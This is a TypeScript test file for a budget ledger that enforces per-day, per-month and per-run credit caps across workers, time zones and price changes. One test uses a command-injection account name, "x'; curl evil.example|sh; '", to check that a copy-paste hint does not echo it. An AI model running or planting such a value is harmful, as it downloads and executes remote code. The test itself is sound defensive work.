/** S3: which cap holds when several workers and people say different things, and what a dearer price does to it. */
import * as ledger from '../../src/ledger';
import { describeBudget, describeDearer, describeLedger, describeLeft } from '../../src/ledger/details';
import { describeShortage } from '../../src/ledger/shortage';
import { obstacleOf, statusOf } from '../../workflows/ledger/ledger-status';

const timing = { sendWindowMs: 5_000, paidTimeoutMs: 210_000, settlingMs: 300_000 };
const MINUTE = 60_000;
const NOW = Date.UTC(2026, 10, 21, 12);
const said = (worker: string, over: Partial<ledger.Budget> = {}) => ({
  ...{ account: 'a', worker, timing },
  budget: { perDay: null, balanceFloor: 0, timeZone: 'UTC', ...over },
});
const open = (over: Partial<ledger.Budget> = {}) => ledger.openLedger(said('first', over), NOW, false);
const request = (n: number, over: Partial<ledger.BeginSend> = {}): ledger.BeginSend => ({
  ...{ subject: `lead:${n}`, attempt: `${n}`, run: 'r', credits: 1_000, lookedAt: NOW + 1, runCap: 1e12 },
  ...over,
});
const paid = (state: ledger.LedgerState, n: number, credits: number, now: number) =>
  ledger.settle(state, { ...request(n), settlement: { kind: 'paid', credits } }, now).state;
/** Grants so many as are let through, and answers how many that were. */
function grant(state: ledger.LedgerState, from: number, to: number, now: number) {
  let granted = 0;
  for (let n = from; n <= to; n++) {
    const asked = ledger.beginSend(state, request(n, { lookedAt: now - 1 }), now);
    if (asked.answer.kind === 'granted') granted++;
    state = asked.state;
  }
  return { state, granted };
}
const cap = (state: ledger.LedgerState, now: number) => ledger.budgetInForce(state, now).perDay;

describe('the cap that holds', () => {
  test('a worker without a cap, or with a higher one, does not lift that of another which is alive', () => {
    const none = ledger.configure(open({ perDay: 3_000 }), said('second'), NOW + MINUTE);
    expect(cap(none, NOW + MINUTE)).toBe(3_000);
    expect(grant(none, 1, 8, NOW + MINUTE).granted).toBe(3);
    const higher = ledger.configure(none, said('third', { perDay: 8_000 }), NOW + MINUTE);
    expect(cap(higher, NOW + MINUTE)).toBe(3_000);
    expect(describeBudget(ledger.budgetInForce(higher, NOW)).join()).toMatch(
      /3,000 \(configured: .*worker first\).*3 workers/,
    );
  });

  test('who was not heard for ten minutes no longer counts; when nobody was, what was known last does', () => {
    let state = ledger.configure(open({ perDay: 3_000 }), said('second', { perDay: 8_000 }), NOW + 5 * MINUTE);
    expect(cap(state, NOW + 10 * MINUTE - 1)).toBe(3_000);
    expect(cap(state, NOW + 10 * MINUTE)).toBe(8_000);
    expect(ledger.nextChange(state, NOW)).toBe(NOW + 10 * MINUTE);
    state = ledger.configure(state, said('second', { perDay: 8_000 }), NOW + 10 * MINUTE);
    expect(cap(state, NOW + 60 * MINUTE)).toBe(8_000);
    expect(ledger.budgetInForce(state, NOW + 60 * MINUTE).live).toBe(false);
    expect(cap(ledger.configure(state, said('third'), NOW + 61 * MINUTE), NOW + 61 * MINUTE)).toBeNull();
  });

  test('of the ceilings of a run and of a month the strictest holds, too, and people see whose word it is', () => {
    const two = ledger.configure(open({ perRun: 2_000, perMonth: 8_000 }), said('second', { perMonth: 3_000 }), NOW);
    expect(ledger.budgetInForce(two, NOW)).toMatchObject({ perRun: 2_000, perDay: null, perMonth: 3_000 });
    expect(grant(two, 1, 8, NOW).granted).toBe(2);
    const refused = (n: number, run: string, state: ledger.LedgerState, now = NOW) =>
      ledger.beginSend(state, request(n, { run, lookedAt: now - 1 }), now).answer;
    let spent = paid(paid(two, 1, 1_000, NOW), 2, 1_000, NOW);
    expect(refused(3, 'r', spent)).toEqual({ kind: 'capped', cap: 'run', credits: 1_000 });
    spent = paid(ledger.beginSend(spent, request(3, { run: 'r3' }), NOW).state, 3, 1_000, NOW);
    const until = Date.UTC(2026, 11, 1);
    expect(refused(4, 'r4', spent)).toEqual({ kind: 'capped', cap: 'month', credits: 1_000, until });
    expect(refused(4, 'r4', spent, until)).toMatchObject({ kind: 'granted' });
    expect(
      ledger.nextChange(
        { ...spent, today: { until: NOW, spent: 0 }, workers: spent.workers.slice(0, 2) },
        NOW + 11 * MINUTE,
      ),
    ).toBe(until);
    const status = statusOf(spent, NOW);
    // A status that was read before or after may tell of other limits: the answer brings its own figures.
    const obstacle = obstacleOf(spent, { credits: 1_000 }, NOW);
    expect(obstacle.kind === 'capped' && obstacle.figures && describeShortage(obstacle, obstacle.figures)).toMatch(
      /credits of the month are used up: 3,000 spent, of 3,000 a month.*at 2026-12-01 00:00 UTC.*budget\.perMonth/,
    );
    expect(describeLeft(status).slice(0, 3)).toEqual([
      'Today (UTC): 3,000 credits spent; there is no daily limit',
      'This month: 0 of 3,000 credits are left; 3,000 credits spent',
      'One run: 2,000 credits at most, whatever its input says (the ceiling `budget.perRun`)',
    ]);
    expect(describeBudget(status.budget).join()).toMatch(
      /a month: 3,000 \(configured: budget, of worker second\).*one run: 2,000 \(configured: budget, of worker first\)/,
    );
  });

  test('what ends a shortage can be pasted, whatever the account is called in what was sent to the ledger', () => {
    const status = statusOf(open({ perDay: 0 }), NOW);
    const budget = { ...status.budget, from: { perDay: { kind: 'person', by: 'Ada', at: NOW } as const } };
    const told = (account: string) =>
      describeShortage({ kind: 'capped', cap: 'day', credits: 1_000 }, { ...status, account, budget });
    expect(told('north-1')).toContain('(`npx audit-runner set-budget north-1`, or the update `setBudget`');
    expect(told("x'; curl evil.example|sh; '")).toContain('`npx audit-runner set-budget <account>`');
  });

  test('S8: workers whose books are in different storages pay nothing; calls that are free go on', () => {
    const first = ledger.configure(open(), { ...said('first'), books: 'here' }, NOW);
    const same = ledger.configure(first, { ...said('second'), books: 'here' }, NOW);
    // It has not read yet where its books are.
    const silent = ledger.configure(same, said('third'), NOW);
    expect(grant(silent, 1, 1, NOW).granted).toBe(1);
    const apart = ledger.configure(silent, { ...said('third'), books: 'elsewhere' }, NOW);
    const why = expect.stringMatching(/different storages.*first, third.*storageUrl/);
    expect(ledger.beginSend(apart, request(1), NOW).answer).toEqual({ kind: 'unwritten', why });
    expect(ledger.obstacle(apart, 1_000, NOW)).toEqual({ kind: 'unwritten', why });
    expect(describeLedger(apart, NOW).source).toMatch(/^- the workers keep their books in different storages/m);
    expect(ledger.beginSend(apart, request(1, { credits: 0 }), NOW).answer.kind).toBe('granted');
    expect(grant(ledger.leave(apart, 'third', NOW), 1, 1, NOW + 1).granted).toBe(1);
  });

  test('S8: storages that differ are also seen among more workers than are kept apart', () => {
    let state = ledger.configure(open(), { ...said('first'), books: 'elsewhere' }, NOW);
    for (let n = 0; n < 100; n++) state = ledger.configure(state, { ...said(`w${n}`), books: 'here' }, NOW + n);
    expect(ledger.beginSend(state, request(1), NOW + 100).answer.kind).toBe('unwritten');
    // It ends with the worker that differs, however often the others report.
    const then = NOW + 10 * MINUTE;
    for (let n = 0; n < 100; n++) state = ledger.configure(state, { ...said(`w${n}`), books: 'here' }, then + n);
    expect(grant(state, 1, 1, then + 100).granted).toBe(1);
  });

  test('a worker that ends says so; the last one leaves its word behind', () => {
    const two = ledger.configure(open({ perDay: 3_000 }), said('second', { perDay: 8_000 }), NOW);
    const one = ledger.leave(two, 'first', NOW + 1);
    expect(cap(one, NOW + 1)).toBe(8_000);
    expect(
      cap(ledger.leave(ledger.configure(one, said('second', { perDay: 8_000 }), NOW + 2), 'second', NOW + 3), NOW + 4),
    ).toBe(8_000);
  });

  test('a lower cap in the file is in force with the next message of its worker, a higher one too', () => {
    const lower = ledger.configure(open({ perDay: 20_000 }), said('first', { perDay: 12_000 }), NOW + 1);
    expect(cap(lower, NOW + 1)).toBe(12_000);
    expect(cap(ledger.configure(lower, said('first', { perDay: 30_000 }), NOW + 2), NOW + 2)).toBe(30_000);
  });

  test('a person lowers it and raises it up to the configured one, no further', () => {
    const state = open({ perDay: 8_000, balanceFloor: 500 });
    const set = (wanted: ledger.BudgetWanted, on = state) => ledger.setBudget(on, wanted, 'Ada', NOW);
    const refusal = (wanted: ledger.BudgetWanted) => ledger.budgetRefusal(state, wanted, NOW);
    expect(cap(set({ perDay: 2_000 }), NOW)).toBe(2_000);
    expect(refusal({ perDay: null })).toMatch(/perDay was given null \(no limit\); allowed is at most 8000/);
    expect(refusal({ perDay: 8_001 })).toContain('allowed is at most 8000');
    expect(refusal({ balanceFloor: 499 })).toContain('allowed is at least 500');
    expect(refusal({ perDay: 8_000, balanceFloor: 501 })).toBeUndefined();
    expect(set({ perDay: null })).toEqual(state);
    const low = set({ perDay: 2_000, balanceFloor: 900 });
    expect(describeBudget(ledger.budgetInForce(low, NOW)).join()).toMatch(/2,000 \(set by Ada.*900 \(set by Ada/);
    expect(cap(set({ perDay: 8_000 }, low), NOW)).toBe(8_000);
    expect(ledger.budgetRefusal(open(), { perDay: null }, NOW)).toBeUndefined();
  });

  test('what a person set does not outlive a lower cap, and one as high as the configured is none of its own', () => {
    const set = ledger.setBudget(open({ perDay: 20_000 }), { perDay: 15_000 }, 'Ada', NOW);
    const lower = ledger.configure(set, said('first', { perDay: 12_000 }), NOW + 1);
    expect(cap(lower, NOW + 1)).toBe(12_000);
    expect(cap(ledger.configure(lower, said('first', { perDay: 20_000 }), NOW + 2), NOW + 2)).toBe(15_000);
    const same = ledger.setBudget(set, { perDay: 20_000 }, 'Ada', NOW);
    expect(cap(ledger.configure(same, said('first', { perDay: 30_000 }), NOW + 1), NOW + 1)).toBe(30_000);
  });

  test('the highest floor and the longest times count', () => {
    const state = ledger.configure(
      open({ balanceFloor: 5_000 }),
      { ...said('second', { balanceFloor: 100 }), timing: { ...timing, settlingMs: 900_000, paidTimeoutMs: 1_000 } },
      NOW,
    );
    expect(ledger.budgetInForce(state, NOW).balanceFloor).toBe(5_000);
    expect(state.timing).toEqual({ ...timing, settlingMs: 900_000 });
  });

  test('so many workers are told apart; of a thousand the strictest still counts, in a small state', () => {
    let state = open({ perDay: 3_000, balanceFloor: 70 });
    for (let n = 0; n < 1_000; n++) state = ledger.configure(state, said(`worker ${n}`), NOW + n);
    expect(ledger.budgetInForce(state, NOW + 1_000)).toMatchObject({ perDay: 3_000, balanceFloor: 70 });
    expect(JSON.stringify(state.workers).length).toBeLessThan(20_000);
  });
});

describe('the day that is counted', () => {
  const spentBy = (state: ledger.LedgerState, n: number, at: number) => {
    const { state: begun } = ledger.beginSend(state, request(n, { lookedAt: at - 1 }), at);
    return paid(begun, n, 1_000, at);
  };

  test('another time zone opens no fresh day: the present one ends when it has in both', () => {
    const full = spentBy(open({ perDay: 1_000 }), 1, NOW);
    // It is tomorrow there already; and the other way round.
    for (const timeZone of ['Pacific/Kiritimati', 'Pacific/Pago_Pago']) {
      const moved = ledger.configure(full, said('first', { perDay: 1_000, timeZone }), NOW + 1);
      expect(ledger.budgetInForce(moved, NOW + 1).timeZone).toBe(timeZone);
      const answer = ledger.beginSend(moved, request(2, { lookedAt: NOW + 1 }), NOW + 2).answer;
      expect(answer).toMatchObject({ kind: 'capped', cap: 'day' });
      const until = answer.kind === 'capped' ? (answer.until ?? 0) : 0;
      expect(until).toBeGreaterThanOrEqual(Date.UTC(2026, 10, 22));
      expect(ledger.beginSend(moved, request(2, { lookedAt: until }), until - 1).answer.kind).toBe('capped');
      expect(ledger.beginSend(moved, request(2, { lookedAt: until }), until).answer.kind).toBe('granted');
    }
  });

  test('two workers that differ do not change the zone to and fro', () => {
    let state = spentBy(open({ perDay: 1_000 }), 1, NOW);
    for (let n = 1; n < 48 * 12; n++) {
      const at = NOW + n * 5 * MINUTE;
      state = ledger.configure(state, said('first', { perDay: 1_000 }), at);
      state = ledger.configure(state, said('second', { perDay: 1_000, timeZone: 'Pacific/Kiritimati' }), at + 1);
      expect(ledger.budgetInForce(state, at).timeZone).toBe('UTC');
    }
    expect(
      ledger.beginSend(state, request(2, { lookedAt: NOW + 48 * 60 * MINUTE }), NOW + 48 * 60 * MINUTE).answer.kind,
    ).toBe('granted');
  });
});

describe('a price above the configured one', () => {
  test('is reserved for every further call: the first dearer reply exceeds the cap by the calls in flight at most', () => {
    const flying = grant(open({ perDay: 4_000 }), 1, 2, NOW).state;
    const learned = paid(flying, 1, 2_300, NOW + 10);
    // The second is under way, and counts at the known price from now on.
    expect(ledger.reservedCredits(learned)).toBe(2_300);
    expect(grant(learned, 3, 9, NOW + 20).granted).toBe(0);
    const settled = paid(learned, 2, 2_300, NOW + 30);
    expect(ledger.spentOn(settled, NOW + 40)).toBe(4_600);
    const [known] = ledger.dearer(settled);
    expect(known && describeDearer(known)).toMatch(
      /A conversion cost 2,300 credits .* 1,000 according to the configuration.*leads\.convert/,
    );
  });

  test('counts against the cap of a run, and says what it needs', () => {
    const learned = paid(grant(open(), 1, 1, NOW).state, 1, 2_300, NOW);
    const again = ledger.beginSend(learned, request(2, { lookedAt: NOW + 5, runCap: 4_000 }), NOW + 5_000);
    expect(again.answer).toEqual({ kind: 'capped', cap: 'run', credits: 2_300 });
    const other = ledger.beginSend(
      learned,
      request(2, { run: 'other', lookedAt: NOW + 5, runCap: 2_300 }),
      NOW + 5_000,
    );
    expect(other.answer).toMatchObject({ kind: 'granted', flight: { credits: 2_300 } });
  });

  test('is what a waiting run asks with as long as it stands, whatever the run was told', () => {
    const learned = paid(grant(open({ perDay: 4_000 }), 1, 1, NOW).state, 1, 2_300, NOW);
    const asked = { credits: 1_000, call: { subject: 'lead:2', credits: 1_000 } };
    expect(obstacleOf(learned, asked, NOW)).toMatchObject({ kind: 'capped', cap: 'day', credits: 2_300 });
    expect(obstacleOf(learned, { ...asked, call: { subject: 'project:2', credits: 1_000 } }, NOW).kind).toBe('none');
    const forgotten = ledger.releaseAll(learned, false, NOW);
    expect(obstacleOf(forgotten, { ...asked, credits: 2_300 }, NOW)).toEqual({ kind: 'none', credits: 1_000 });
  });

  test('S7: what an earlier try has reserved does not keep the run that would replace it', () => {
    const { state } = grant(open({ perDay: 2_000 }), 1, 2, NOW);
    const asked = (subject: string) => obstacleOf(state, { credits: 1_000, call: { subject, credits: 1_000 } }, NOW);
    expect(asked('lead:3')).toMatchObject({ kind: 'capped', cap: 'day' });
    expect(asked('lead:2')).toEqual({ kind: 'none', credits: 1_000 });
    const over = state.flights.open['lead:2']?.overAt ?? 0;
    const again = request(2, { attempt: 'again', lookedAt: over + 1 });
    expect(ledger.beginSend(state, again, over + 2).answer.kind).toBe('granted');
  });

  test('is that of its own kind, falls again with a reply that says less, and never below the configured one', () => {
    const learned = paid(grant(open(), 1, 1, NOW).state, 1, 2_300, NOW);
    const reserved = (state: ledger.LedgerState, subject: string, credits = 1_000) => {
      const { answer } = ledger.beginSend(state, request(7, { subject, credits, lookedAt: NOW + 1e6 }), NOW + 1e6);
      return answer.kind === 'granted' ? answer.flight.credits : answer.kind;
    };
    expect(reserved(learned, 'project:x')).toBe(1_000);
    expect(reserved(learned, 'note:x', 0)).toBe(0);
    const next = grant(learned, 2, 2, NOW + 5_000).state;
    const cheaper = paid(next, 2, 1_500, NOW + 6_000);
    expect(reserved(cheaper, 'lead:7')).toBe(1_500);
    const free = paid(grant(cheaper, 3, 3, NOW + 7_000).state, 3, 0, NOW + 8_000);
    expect(reserved(free, 'lead:7')).toBe(1_000);
    expect(ledger.dearer(free)).toEqual([]);
  });

  test('that is a mistake and above every cap is forgotten when a person releases the account', () => {
    const absurd = paid(grant(open({ perDay: 2e9 }), 1, 1, NOW).state, 1, 1e9, NOW);
    expect(grant(absurd, 2, 4, NOW + 1e4).granted).toBe(1);
    expect(grant(ledger.releaseAll(absurd, false, NOW + 1e4), 2, 4, NOW + 1e4).granted).toBe(3);
  });
});

describe('a floor of the balance', () => {
  const floored = (balance: number) => ledger.readBalance(open({ balanceFloor: 66_000 }), balance, NOW, NOW);

  test('takes a reading that was asked for after the payment had its turn: what was spent elsewhere is seen', () => {
    const state = floored(74_000);
    const ask = (on: ledger.LedgerState, n: number, readSince?: number) =>
      ledger.beginSend(on, request(n, { readSince, lookedAt: NOW + MINUTE }), NOW + MINUTE + 1);
    expect(ask(state, 1).answer).toEqual({ kind: 'unread' });
    expect(ask(state, 1, NOW + MINUTE).answer).toEqual({ kind: 'unread' });
    let read = ledger.readBalance(state, 71_000, NOW + MINUTE, NOW + MINUTE + 1);
    let granted = 0;
    for (let n = 1; n <= 8; n++) {
      const asked = ask(read, n, NOW + MINUTE);
      granted += asked.answer.kind === 'granted' ? 1 : 0;
      read = asked.state;
    }
    expect(granted).toBe(5);
  });

  test('asks nothing of free calls, nor where there is none', () => {
    const free = request(1, { subject: 'note:1', credits: 0, runCap: 0 });
    expect(ledger.beginSend(floored(0), free, NOW + 2).answer.kind).toBe('granted');
    expect(ledger.beginSend(open(), request(1), NOW + 2).answer.kind).toBe('granted');
  });
});
